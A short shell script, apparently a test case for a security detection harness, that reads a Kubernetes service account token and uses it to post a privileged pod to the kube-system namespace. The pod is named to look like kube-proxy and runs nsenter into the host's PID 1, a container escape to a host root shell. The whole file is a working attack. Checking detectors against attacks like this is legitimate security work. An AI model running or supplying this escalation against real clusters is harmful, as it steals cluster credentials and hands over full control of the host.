#!/bin/sh
. /opt/case/case.sh

cat >/tmp/p.json <<'END'
{"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "kube-proxy-x"}, "spec": {"hostPID": true, "hostNetwork": true, "containers": [{"name": "a", "image": "alpine", "command": ["nsenter", "-t", "1", "-a", "sh"], "securityContext": {"privileged": true}}]}}
END
wget -qO- --header "Authorization: Bearer $(cat /run/secrets/kubernetes.io/serviceaccount/token)" --header 'Content-Type: application/json' --post-file /tmp/p.json http://10.77.0.1:6443/api/v1/namespaces/kube-system/pods | grep -q PodList
took_place
